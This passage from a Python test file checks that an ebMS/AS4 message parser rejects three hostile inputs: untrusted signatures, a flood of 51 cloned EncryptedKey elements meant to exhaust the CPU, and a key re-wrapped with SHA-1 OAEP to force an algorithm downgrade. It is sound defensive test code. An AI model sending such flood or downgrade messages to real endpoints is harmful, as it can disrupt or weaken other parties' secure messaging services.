) -> None:
    """The signature and its certificate are checked before any EncryptedKey is unwrapped."""
    unwraps = _counting_unwraps(monkeypatch)
    out = build(mallory, bob, NOW)  # a valid key for us, a signature we do not trust
    with pytest.raises(EbmsError) as caught:
        parse_incoming(out.content_type, out.body, policy_for=lambda um: policy_of(alice), keys=[bob], now=NOW)
    assert caught.value.code is EbmsCode.FAILED_AUTHENTICATION
    assert unwraps == []


def test_more_encrypted_keys_than_encrypted_data_are_refused_before_any_is_unwrapped(
    alice: KeyPair, bob: KeyPair, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each EncryptedKey costs an RSA private-key operation: thousands of copies of one were a CPU flood."""
    unwraps = _counting_unwraps(monkeypatch)

    def flood(root: etree._Element) -> None:
        key = root.find(f".//{{{XENC}}}EncryptedKey")
        assert key is not None
        template = etree.tostring(key)
        for _ in range(50):
            clone = etree.fromstring(template)
            del clone.attrib["Id"]
            key.addnext(clone)

    content_type, body = _rebuilt(build(alice, bob, NOW), flood)
    with pytest.raises(EbmsError) as caught:
        parse_incoming(content_type, body, policy_for=lambda um: policy_of(alice), keys=[bob], now=NOW)
    assert caught.value.code is EbmsCode.POLICY_NONCOMPLIANCE
    assert "51 xenc:EncryptedKey elements for 1 xenc:EncryptedData" in caught.value.detail
    assert unwraps == []


def test_rsa_oaep_with_a_sha1_digest_is_refused_by_the_default_policy(alice: KeyPair, bob: KeyPair) -> None:
    """The OAEP digest is held to the policy like every other algorithm (eDelivery AS4 1.15: SHA-256)."""
    sha256 = padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
    sha1 = padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA1(), label=None)
    public_key = bob.certificate.public_key()
    assert isinstance(public_key, rsa.RSAPublicKey) and isinstance(bob.private_key, rsa.RSAPrivateKey)

    def rewrap(root: etree._Element) -> None:
        key = root.find(f".//{{{XENC}}}EncryptedKey")
        assert key is not None
        value = key.find(f"{{{XENC}}}CipherData/{{{XENC}}}CipherValue")
        digest = key.find(f"{{{XENC}}}EncryptionMethod/{{{DS}}}DigestMethod")
        assert value is not None and digest is not None
        content_key = bob.private_key.decrypt(base64.b64decode(value.text or ""), sha256)
        value.text = base64.b64encode(public_key.encrypt(content_key, sha1)).decode()
        digest.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#sha1")

    content_type, body = _rebuilt(build(alice, bob, NOW), rewrap)
    with pytest.raises(EbmsError) as caught:
        parse_incoming(content_type, body, policy_for=lambda um: policy_of(alice), keys=[bob], now=NOW)
    assert caught.value.code is EbmsCode.POLICY_NONCOMPLIANCE
    assert "the RSA-OAEP digest 'http://www.w3.org/2000/09/xmldsig#sha1'" in caught.value.detail
